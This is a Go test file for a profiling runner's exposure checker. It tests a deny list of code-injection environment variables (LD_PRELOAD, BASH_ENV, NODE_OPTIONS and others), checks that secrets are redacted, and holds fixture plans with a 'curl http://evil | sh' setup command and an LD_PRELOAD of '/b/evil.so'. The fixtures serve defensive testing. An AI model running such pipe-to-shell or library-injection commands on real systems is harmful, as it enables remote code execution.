package exposure

import (
	"slices"
	"strings"
	"testing"

	"github.com/sglprof/runner/plans"
	"github.com/sglprof/runner/runner/secrets"
)

func TestEnvDanger(t *testing.T) {
	for _, name := range []string{"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "LD_BIND_NOW", "DYLD_INSERT_LIBRARIES",
		"PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "BASH_ENV", "ENV", "BASH_FUNC_ls%%", "NODE_OPTIONS",
		"PATH", "http_proxy", "CUDA_INJECTION64_PATH", "NCCL_NET_PLUGIN", "GIT_SSH_COMMAND"} {
		if EnvDanger(name) == "" {
			t.Errorf("%s is not marked dangerous", name)
		}
	}
	for _, name := range []string{"CUDA_VISIBLE_DEVICES", "SGLANG_TORCH_PROFILER_DIR", "NCCL_DEBUG", "HF_TOKEN", "MY_LD_PRELOAD"} {
		if why := EnvDanger(name); why != "" {
			t.Errorf("%s is marked dangerous: %s", name, why)
		}
	}
	if s := NewEnvSetting("HF_TOKEN", "hf_secret").String(); s != "HF_TOKEN="+secrets.Redacted {
		t.Errorf("a secret is listed as %q", s)
	}
}

// Of lists what a plan sets, runs and contacts beyond argv, and SimulatorOnly
// removes exactly that: after it, a simulated run of the plan exposes nothing.
func TestPlanExposureAndSimulatorOnly(t *testing.T) {
	for _, tc := range []struct {
		name, body string
		want       []string // lines of the exposure, in any of its lists
	}{
		{"slurm and env", `name = "x"
[backend]
env = { LD_PRELOAD = "/b/evil.so", SGLANG_X = "1" }
[executor]
kind = "slurm"
[executor.slurm]
partition = "gpu"
extra_sbatch = ["--exclusive"]
setup = ["module load cuda", "curl http://evil | sh"]
[matrix]
model = ["m"]
prompt = ["p"]
`, []string{"LD_PRELOAD=/b/evil.so   DANGEROUS: the dynamic loader loads these libraries into every process", "SGLANG_X=1",
			"--partition=gpu", "--exclusive", "module load cuda", "curl http://evil | sh"}},
		{"attached", `name = "x"
[backend]
mode = "serve"
url = "http://10.0.0.5:30000"
[matrix]
model = ["m"]
prompt = ["p"]
`, []string{"backend.url http://10.0.0.5:30000: an attached server, which the runner sends its requests to"}},
		{"server host and port", `name = "x"
[backend]
mode = "serve"
host = "0.0.0.0"
port = 30000
[matrix]
model = ["m"]
prompt = ["p"]
`, []string{"server 0.0.0.0:30000 (backend.host/port): the server listens there and the runner connects to it"}},
		{"plain", `name = "x"
[matrix]
model = ["m"]
prompt = ["p"]
`, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p, err := plans.Parse("plan.toml", []byte(tc.body))
			if err != nil {
				t.Fatal(err)
			}
			exp := Of(p, "", true)
			var got []string
			for _, e := range exp.Env {
				got = append(got, e.String())
			}
			got = append(append(append(got, exp.Slurm...), exp.Setup...), exp.Network...)
			for _, w := range tc.want {
				if !slices.Contains(got, w) {
					t.Errorf("exposure lacks %q: %q", w, got)
				}
			}
			if len(got) != len(tc.want) || exp.Empty() != (len(tc.want) == 0) {
				t.Errorf("exposure %q, want %q", got, tc.want)
			}
			dropped := SimulatorOnly(p)
			if (len(dropped) == 0) != (len(tc.want) == 0) {
				t.Errorf("dropped %q", dropped)
			}
			if after := Of(p, "", true); !after.Empty() {
				t.Errorf("after SimulatorOnly the plan still exposes %+v", after)
			}
			if len(p.Expand()) != 1 {
				t.Errorf("the simulator-only plan expands to %d cells", len(p.Expand()))
			}
			for _, c := range p.Expand() {
				if c.Backend.URL != "" || len(c.Backend.Env) > 0 || strings.Contains(c.Backend.Host, "0.0.0.0") {
					t.Errorf("a cell keeps what was dropped: %+v", c.Backend)
				}
			}
		})
	}
}
